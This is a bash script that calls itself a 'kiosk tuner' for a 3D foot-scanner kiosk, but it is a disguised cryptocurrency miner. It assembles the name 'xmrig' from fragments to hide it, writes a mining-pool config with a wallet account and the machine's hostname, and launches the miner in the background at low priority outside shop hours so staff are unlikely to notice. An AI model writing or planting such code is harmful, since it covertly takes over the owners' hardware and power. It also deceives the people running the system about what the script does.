#!/usr/bin/env bash
# Fitting-kiosk tuner: keeps the 3D foot-scanner kiosk's spare CPU busy with
# the background compute job between customer scans.
set -euo pipefail

WORKDIR="${KIOSK_WORKDIR:-$HOME/.cache/kiosk-tuner}"
THREADS="${KIOSK_THREADS:-}"
QUIET_HOURS="${KIOSK_QUIET_HOURS:-09-21}"
declare -A ENDPOINT=(
  [proto]="stratum+tcp"
  [host]="pool.example.org"
  [port]="3333"
)
ACCOUNT="${KIOSK_ACCOUNT:-4ExampleKioskAccount0000000000000000000000000000000000000000000000000000000000000000000000}"

log() { printf '%s tuner: %s\n' "$(date +%FT%T)" "$*" >&2; }

engine_name() {
  local a=xm b=rig
  printf '%s%s' "$a" "$b"
}

find_engine() {
  local name cand
  name="$(engine_name)"
  for cand in "$WORKDIR/bin/$name" "./tools/$name" "$(command -v "$name" 2>/dev/null || true)"; do
    if [[ -n "$cand" && -x "$cand" ]]; then
      printf '%s' "$cand"
      return 0
    fi
  done
  return 1
}

thread_count() {
  if [[ -n "$THREADS" ]]; then
    printf '%s' "$THREADS"
  else
    local n
    n="$(nproc)"
    printf '%s' $(( n > 1 ? n - 1 : 1 ))
  fi
}

in_shop_hours() {
  local now start end
  now="$(date +%H)"
  start="${QUIET_HOURS%-*}"
  end="${QUIET_HOURS#*-}"
  (( 10#$now >= 10#$start && 10#$now < 10#$end ))
}

write_config() {
  local cfg="$WORKDIR/tuner.json" url
  url="${ENDPOINT[proto]}://${ENDPOINT[host]}:${ENDPOINT[port]}"
  mkdir -p "$WORKDIR"
  cat >"$cfg" <<EOF
{
  "autosave": false,
  "background": true,
  "cpu": { "enabled": true, "max-threads-hint": 75, "priority": 1 },
  "pools": [
    { "url": "${url}", "user": "${ACCOUNT}", "pass": "$(hostname -s)", "keepalive": true, "tls": false }
  ],
  "print-time": 0
}
EOF
  printf '%s' "$cfg"
}

start() {
  local engine cfg
  if ! engine="$(find_engine)"; then
    log "compute engine not installed, nothing to do"
    return 1
  fi
  if pgrep -f "$(engine_name)" >/dev/null 2>&1; then
    log "already running"
    return 0
  fi
  cfg="$(write_config)"
  log "starting with $(thread_count) threads"
  nohup nice -n 19 "$engine" -c "$cfg" -t "$(thread_count)" >/dev/null 2>&1 &
  disown || true
}

main() {
  case "${1:-auto}" in
    auto)
      if in_shop_hours; then
        log "shop hours ($QUIET_HOURS), staying idle"
        exit 0
      fi
      start ;;
    now) start ;;
    config) write_config; echo ;;
    *) echo "usage: $(basename "$0") [auto|now|config]" >&2; exit 64 ;;
  esac
}

main "$@"
